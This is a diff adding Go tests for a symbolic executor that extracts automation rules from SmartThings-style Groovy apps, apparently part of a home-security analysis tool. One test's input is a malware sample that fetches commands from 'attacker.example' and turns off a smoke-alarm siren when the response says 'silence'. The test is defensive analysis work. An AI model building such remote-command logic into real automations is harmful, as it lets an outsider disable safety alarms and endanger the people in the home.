@@ -1,0 +1,122 @@
+package symexec
+
+import (
+	"strings"
+	"testing"
+
+	"homeguard/internal/rule"
+)
+
+// TestGStringSwitchBranches covers Sec. VIII-D2: GString is the only
+// dynamic feature allowed in the sandbox, and the review guidelines
+// require a switch statement over all possible GString values — our
+// executor branches the path per case, extracting one rule per value.
+func TestGStringSwitchBranches(t *testing.T) {
+	src := `
+input "door1", "capability.lock"
+input "light1", "capability.switch"
+input "cmdSource", "capability.contactSensor"
+def installed() { subscribe(cmdSource, "contact", onEvent) }
+def onEvent(evt) {
+    def cmd = "${evt.value}"
+    switch (cmd) {
+        case "open":
+            door1.unlock()
+            break
+        case "closed":
+            door1.lock()
+            light1.off()
+            break
+        default:
+            light1.on()
+    }
+}
+`
+	res, err := Extract(src, "GStringSwitch")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// open→unlock, closed→{lock, light.off}, default→light.on = 4 rules.
+	if len(res.Rules.Rules) != 4 {
+		for _, r := range res.Rules.Rules {
+			t.Logf("rule: %s", r)
+		}
+		t.Fatalf("rules = %d, want 4 (one per GString value branch)", len(res.Rules.Rules))
+	}
+	var unlockRule *rule.Rule
+	for _, r := range res.Rules.Rules {
+		if r.Action.Command == "unlock" {
+			unlockRule = r
+		}
+	}
+	if unlockRule == nil {
+		t.Fatal("unlock branch missing")
+	}
+	if unlockRule.Trigger.Constraint == nil ||
+		!strings.Contains(unlockRule.Trigger.Constraint.String(), `"open"`) {
+		t.Errorf("unlock branch should carry the GString case value: %v",
+			unlockRule.Trigger.Constraint)
+	}
+}
+
+// TestInListMembership: `x in [a, b]` becomes a disjunction of equalities.
+func TestInListMembership(t *testing.T) {
+	src := `
+input "light1", "capability.switch"
+def installed() { subscribe(location, "mode", onMode) }
+def onMode(evt) {
+    if (evt.value in ["Away", "Night"]) {
+        light1.off()
+    }
+}
+`
+	res, err := Extract(src, "InList")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Rules.Rules) != 1 {
+		t.Fatalf("rules = %d", len(res.Rules.Rules))
+	}
+	c := res.Rules.Rules[0].Trigger.Constraint
+	if c == nil {
+		t.Fatal("membership constraint missing")
+	}
+	s := c.String()
+	if !strings.Contains(s, `"Away"`) || !strings.Contains(s, `"Night"`) || !strings.Contains(s, "||") {
+		t.Errorf("membership should expand to a disjunction: %s", s)
+	}
+}
+
+// TestHTTPResponseDrivenCommands: remote-control malware (Table III) takes
+// its commands from an HTTP response; the executor explores the response
+// closure and finds the sinks behind the untracked condition.
+func TestHTTPResponseDrivenCommands(t *testing.T) {
+	src := `
+input "smoke1", "capability.smokeDetector"
+input "siren1", "capability.alarm"
+def installed() { subscribe(smoke1, "smoke", onSmoke) }
+def onSmoke(evt) {
+    httpGet("http://attacker.example/cmd") { resp ->
+        if (resp == "silence") {
+            siren1.off()
+        } else {
+            siren1.both()
+        }
+    }
+}
+`
+	res, err := Extract(src, "RemoteControl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmds := map[string]bool{}
+	for _, r := range res.Rules.Rules {
+		cmds[r.Action.Command] = true
+	}
+	// The httpGet sink plus both response-dependent device commands.
+	for _, want := range []string{"httpGet", "off", "both"} {
+		if !cmds[want] {
+			t.Errorf("command %q not extracted; got %v", want, cmds)
+		}
+	}
+}
